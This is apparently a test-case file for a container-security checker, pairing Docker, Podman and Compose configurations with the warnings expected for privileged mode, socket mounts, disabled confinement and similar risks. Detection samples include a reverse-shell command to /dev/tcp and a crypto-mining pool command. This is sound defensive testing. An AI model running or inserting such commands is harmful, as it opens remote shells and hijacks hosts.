import { service, type CheckCase } from '../check-sentences.ts';
import { writtenSecrets } from '../written-secrets.ts';

function inspected(config: object, host: object): readonly [string, string] {
  return [
    'inspect.json',
    JSON.stringify([{ Name: '/c', State: { Status: 'running' }, Config: config, HostConfig: host }]),
  ];
}

function podmanContainer(left: readonly string[]): readonly [string, string] {
  const container = {
    Name: 'c',
    OCIRuntime: 'crun',
    BoundingCaps: left,
    Config: {},
    HostConfig: { CapDrop: ['CAP_KILL'] },
  };
  return ['podman.json', JSON.stringify([container])];
}

/** A running container on a network, and what the engine tells of the network; an internal one binds no ports. */
function onNetwork(network: object, bindings: object = {}): readonly [string, string] {
  const container = {
    Name: '/c',
    State: { Status: 'running' },
    Config: {},
    HostConfig: { NetworkMode: 'mv', PortBindings: bindings },
    NetworkSettings: { Ports: {}, Networks: { mv: { IPAddress: '192.0.2.64' } } },
  };
  return ['inspect.json', JSON.stringify([container, { IPAM: {}, ...network }])];
}

function outside(where: string): string {
  return `container c is 192.0.2.64 on the network of ${where}: all its ports stand open there`;
}

/** Containers as Docker, Podman and Compose describe them. One line for each check and input: what it says, or nothing. */
export const containersCases: readonly CheckCase[] = [
  ...writtenSecrets,
  ['privileged', service(['privileged: true']), ['service web is privileged']],
  ['privileged', service(['privileged: false']), []],
  ['privileged', inspected({}, { Privileged: true }), ['container c is privileged']],
  [
    'dangerous-capabilities',
    service(['cap_add: [net_admin]']),
    ['service web adds the capability NET_ADMIN, which lets it change addresses, routes and firewall rules'],
  ],
  ['dangerous-capabilities', service(['cap_add: [CAP_CHOWN]']), []],
  ['capabilities-kept', service(['cap_drop: [ALL]']), []],
  ['capabilities-kept', service(['cap_drop: [NET_RAW]']), ['service web does not drop all capabilities']],
  [
    'engine-socket',
    service(['volumes: ["/run/docker.sock:/s:ro"]']),
    ['service web mounts /run/docker.sock at /s (read-only, which does not help)'],
  ],
  [
    'engine-socket',
    service(['volumes: ["/run/user/1000/podman/podman.sock:/s"]']),
    ['service web mounts /run/user/1000/podman/podman.sock at /s'],
  ],
  [
    'miner',
    service(['command: ["-o", "stratum+tcp://pool.example:3333", "--coin=monero"]']),
    ['service web is started so: protocol of mining pools, coin to be mined'],
  ],
  ['miner', service(['command: ["nginx"]']), []],
  [
    'backdoor-script',
    service(['command: ["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"]']),
    ['service web is started so: opens a shell to the network'],
  ],
  ['backdoor-script', service(['command: ["sh", "-c", "bash -c \'exec app\' > /dev/null 2>&1"]']), []],
  ['capabilities-kept', podmanContainer([]), []],
  ['capabilities-kept', podmanContainer(['CAP_CHOWN']), ['container c does not drop all capabilities']],
  ['engine-socket', service(['volumes: ["data:/var/run/docker.sock"]']), []],
  [
    'host-path',
    service(['volumes: ["/etc/shadow:/x:ro"]']),
    [
      'service web mounts /etc/shadow of the host (read-only) at /x: accounts, password hashes and settings of the host',
    ],
  ],
  [
    'host-path',
    service(['volumes: ["/run/dbus/system_bus_socket:/b", "/var/run/attestations:/a"]']),
    [
      'service web mounts /run/dbus/system_bus_socket of the host (to write) at /b: sockets and secrets of the host',
      'service web mounts /var/run/attestations of the host (to write) at /a: what a service of the host keeps while it runs',
    ],
  ],
  ['host-path', service(['volumes: ["/etc/localtime:/etc/localtime:ro", "./data:/data", "cache:/cache"]']), []],
  ['host-network', service(['network_mode: host']), ['service web shares the network of the host']],
  ['host-network', service(['network_mode: bridge']), []],
  ['host-pid', service(['pid: "service:db"']), []],
  ['host-ipc', service(['ipc: host']), ['service web shares the shared memory of the host']],
  ['host-ipc', service(['ipc: shareable']), []],
  ['host-uts', service(['uts: host']), ['service web shares the host name of the host']],
  ['host-uts', service([]), []],
  ['host-user-namespace', service(['userns_mode: host']), ['service web shares the users of the host']],
  ['host-user-namespace', service([]), []],
  ['seccomp-off', service(['security_opt: ["seccomp:unconfined"]']), ['service web has seccomp switched off']],
  ['seccomp-off', service(['security_opt: ["seccomp=profile.json"]']), []],
  ['apparmor-off', service(['security_opt: ["apparmor=unconfined"]']), ['service web has AppArmor switched off']],
  ['apparmor-off', service(['security_opt: ["apparmor=mine"]']), []],
  ['selinux-off', service(['security_opt: ["label=disable"]']), ['service web has SELinux switched off']],
  ['selinux-off', service(['privileged: true', 'security_opt: ["label=disable"]']), []],
  ['privilege-escalation', service(['security_opt: ["no-new-privileges:true"]']), []],
  ['privilege-escalation', service([]), ['service web may gain rights through set-id programs']],
  ['writable-root', service(['read_only: true']), []],
  ['writable-root', service([]), ['service web can write to its root file system']],
  ['no-memory-limit', service(['mem_limit: 64m']), []],
  ['no-memory-limit', service([]), ['service web has no limit for memory']],
  ['no-cpu-limit', service(['deploy: { resources: { limits: { cpus: "0.5" } } }']), []],
  ['no-cpu-limit', service([]), ['service web has no limit for processor time']],
  ['no-pids-limit', service(['pids_limit: 100']), []],
  ['no-pids-limit', service([]), ['service web has no limit for processes']],
  ['restart-always', service(['restart: always']), ['service web is started again without end (always)']],
  ['restart-always', service(['restart: "on-failure:5"']), []],
  ['host-devices', service(['devices: ["/dev/sda:/dev/x:rwm"]']), ['service web has the device /dev/sda of the host']],
  ['host-devices', service([]), []],
  [
    'shared-mount',
    service(['volumes: ["/srv:/srv:rshared"]']),
    ['service web shares its mounts at /srv with the host'],
  ],
  ['shared-mount', service(['volumes: ["/srv:/srv:rslave"]']), []],
  [
    'published-port',
    service(['ports: ["8080:80", "127.0.0.1:9:9"]']),
    ['service web publishes port 80/tcp as 8080 on every interface'],
  ],
  ['published-port', service(['ports: [{ target: 80, published: 8080, host_ip: 127.0.0.1 }]']), []],
  ['default-bridge', inspected({}, { NetworkMode: 'default' }), ['container c is on the default bridge']],
  ['default-bridge', inspected({}, { NetworkMode: 'own' }), []],
  [
    'outer-network',
    onNetwork({ Name: 'mv', Driver: 'macvlan', Options: { parent: 'eth0' } }),
    [outside('eth0, by macvlan')],
  ],
  [
    'outer-network',
    onNetwork({ Name: 'mv', Driver: 'ipvlan', Options: { parent: 'eth0' } }),
    [outside('eth0, by ipvlan')],
  ],
  ['outer-network', onNetwork({ Name: 'mv', Driver: 'ipvlan', Options: { ipvlan_mode: 'l3s', parent: 'eth0' } }), []],
  ['outer-network', onNetwork({ Name: 'mv', Driver: 'macvlan', Internal: true }), []],
  ['outer-network', onNetwork({ Name: 'mv', Driver: 'bridge' }), []],
  [
    'outer-network',
    onNetwork({ name: 'mv', driver: 'macvlan', network_interface: 'eth1', ipam_options: { driver: 'host-local' } }),
    [outside('eth1, by macvlan')],
  ],
  [
    'published-port',
    onNetwork({ Name: 'mv', Driver: 'bridge', Internal: true }, { '80/tcp': [{ HostIp: '', HostPort: '8085' }] }),
    [],
  ],
  ['unmasked-proc', service([]), []],
  ['cgroup-parent', service(['cgroup_parent: /other']), ['service web is in the control group /other']],
  ['cgroup-parent', service([]), []],
  ['unsafe-sysctls', service(['sysctls: ["kernel.core_pattern=x"]']), ['service web sets kernel.core_pattern']],
  ['unsafe-sysctls', service(['sysctls: { net.core.somaxconn: 1024 }']), []],
  [
    'secret-in-environment',
    service(['environment: { DB_PASSWORD: s3cret-word }']),
    ['service web has DB_PASSWORD, a secret by its name'],
  ],
  [
    'secret-in-environment',
    service(['environment: ["DB_PASSWORD_FILE=/run/secrets/db", "TOKEN=${TOKEN}", "PASSWORD_MIN_LENGTH=12"]']),
    [],
  ],
  ['root-user', inspected({ User: '' }, {}), ['container c runs as root']],
  ['root-user', inspected({ User: '1000' }, {}), []],
  ['no-healthcheck', service(['healthcheck: { disable: true }']), ['service web has no health check']],
  ['unpinned-image', service([]), []],
  ['ssh-service', service(['ports: ["2222:22"]']), ['service web publishes port 22 as 2222']],
  ['privileged-port', service(['ports: ["22:22", "8080:80"]']), ['service web is published on port 22 of the host']],
  ['privileged-port', service(['ports: ["127.0.0.1:80:80", "8080:80"]']), []],
  [
    'privileged',
    inspected({}, { Privileged: true, Runtime: 'io.containerd.kata.v2' }),
    ['container c is privileged, behind Kata Containers'],
  ],
  [
    'exposed-console',
    ['compose.yml', 'services:\n  db:\n    image: adminer:4.8.1\n    ports: ["8080:8080"]\n'],
    ['service db publishes Adminer, through which anybody may try passwords of any database'],
  ],
  [
    'exposed-console',
    ['compose.yml', 'services:\n  db:\n    image: adminer:4.8.1\n    ports: ["127.0.0.1:8080:8080"]\n'],
    [],
  ],
];
